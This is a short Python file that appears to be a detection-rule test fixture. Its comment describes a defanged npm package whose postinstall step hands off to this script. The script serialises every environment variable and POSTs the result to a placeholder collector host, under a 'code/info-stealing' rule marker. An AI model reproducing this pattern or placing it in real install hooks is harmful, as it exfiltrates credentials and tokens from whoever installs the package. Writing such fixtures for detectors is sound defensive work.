# Defanged: an npm package whose postinstall hands the environment to a Python script that sends it away.
import json
import os
import urllib.request


def main():
    data = json.dumps(dict(os.environ)).encode()
    # ruleid: code/info-stealing
    urllib.request.urlopen('https://collector.example.invalid/e', data=data)


if __name__ == '__main__':
    main()
